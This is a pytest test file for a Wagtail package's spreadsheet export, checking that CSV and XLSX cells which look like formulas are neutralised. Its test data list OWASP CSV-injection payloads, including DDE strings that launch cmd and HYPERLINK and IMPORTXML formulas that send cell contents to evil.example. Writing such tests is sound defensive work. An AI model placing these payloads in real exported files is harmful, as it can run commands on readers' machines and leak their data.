"""Spreadsheet exports: no cell a reader controls becomes a formula (issue 9.5).

Payloads from OWASP's CSV injection page and the issue: leading whitespace or line
breaks, fullwidth signs, and payloads after a separator.
"""

import csv
import io

import openpyxl
import pytest

from wagtail_darksocial.reports.exports import is_formula_like, neutralise, spreadsheet_response

OWASP_PAYLOADS = [
    "=1+1",
    "+33 6 12",
    "-2",
    "@SUM(A1)",
    "\t=cmd",
    "\r=cmd",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "\n=1+1",  # a leading line break (issue 9.5)
    "  =1+1",
    '"=1+1',
    "\uff1d1+1",  # fullwidth =
    "\uff0bcmd",
    "\uff0d2",
    "\uff20SUM(A1)",
    "Title;=cmd|' /C calc'!A0",  # after a ';' separator (issue 9.5)
    "Title,=1+1",
    "Title; -2+3",
    "Title\n=1+1",
]
HARMLESS = ["plain", "", "Dark social: 75% dark", "e-mail", "a+b", "user@example.com", "3 - 2"]
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_payloads_are_neutralised(payload):
    assert is_formula_like(payload)
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", [*HARMLESS, -2, 3.5, None])
def test_harmless_values_are_left_alone(value):
    assert neutralise(value) == value


def cells_as_a_spreadsheet_splits_them(text, delimiter):
    """The cells of a CSV read with ``delimiter``, leading whitespace stripped."""
    return [
        cell.lstrip() for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row
    ]


def test_csv_has_no_cell_that_starts_a_formula_whatever_the_separator():
    rows = [[payload, 3] for payload in OWASP_PAYLOADS]
    response = spreadsheet_response("x", ["=head", "n"], rows, "csv")
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    text = response.content.decode()
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0] == ["'=head", "n"]
    assert parsed[1:] == [["'" + payload, "3"] for payload in OWASP_PAYLOADS]
    # Read back as a ';' locale (French Excel) would: every cell stays whole.
    for delimiter in (",", ";"):
        for cell in cells_as_a_spreadsheet_splits_them(text, delimiter):
            assert not cell or cell[0] not in TRIGGERS, (delimiter, cell)


def test_xlsx_writes_text_as_text_without_an_apostrophe():
    rows = [[payload, -1] for payload in OWASP_PAYLOADS] + [["<b>ok</b>", 2]]
    response = spreadsheet_response("x", ["=head", "n"], rows, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["=head", "n"]
    # (XML reads a carriage return back as a line feed.)
    assert values[1:] == [[text.replace("\r", "\n"), n] for text, n in rows]
    for text, number in sheet.iter_rows(min_row=2):
        assert text.data_type == "s"  # a string cell: never evaluated
        assert text.quotePrefix == is_formula_like(text.value)
        assert number.data_type == "n"
